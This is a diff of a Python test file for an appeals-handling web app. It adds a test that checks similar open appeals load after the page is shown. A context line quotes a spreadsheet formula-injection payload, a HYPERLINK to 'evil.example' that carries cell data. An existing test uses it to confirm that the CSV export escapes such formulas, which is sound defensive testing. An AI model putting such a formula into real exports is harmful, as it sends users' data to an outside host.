@@ -279,3 +279,19 @@ def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, make_appe
     client.login(official)
     rows = list(csv.reader(io.StringIO(client.get("/officials/appeals.csv").get_data(as_text=True).lstrip("\ufeff"))))
     assert rows[1][-1] == '\'=HYPERLINK("http://evil.example/"&A1,"Click")'
+
+
+def test_the_official_sees_similar_open_appeals_once_the_page_has_loaded(client, make_appeal, desk):
+    village, category, _department, official = desk
+    first = make_appeal(village=village, category=category, body="村口的水井干了，一个星期没有水")
+    second = make_appeal(village=village, category=category, body="水井没有水了，村口的水井干了")
+    make_appeal(village=village, category=category, body="The streetlight at the bridge is broken")
+    client.login(official)
+    page = client.get(f"/officials/appeals/{first.id}").get_data(as_text=True)
+    assert f'hx-get="/officials/appeals/{first.id}/similar"' in page  # asked for after the page is shown
+    fragment = client.get(f"/officials/appeals/{first.id}/similar", headers={"HX-Request": "true"})
+    html = fragment.get_data(as_text=True)
+    assert html.lstrip().startswith(f'<p id="appeal-{first.id}-similar">')
+    assert f"#{second.id}" in html and f"#{first.id}<" not in html
+    without_js = client.get(f"/officials/appeals/{first.id}/similar").get_data(as_text=True)
+    assert "<html" in without_js and f"#{second.id}" in without_js
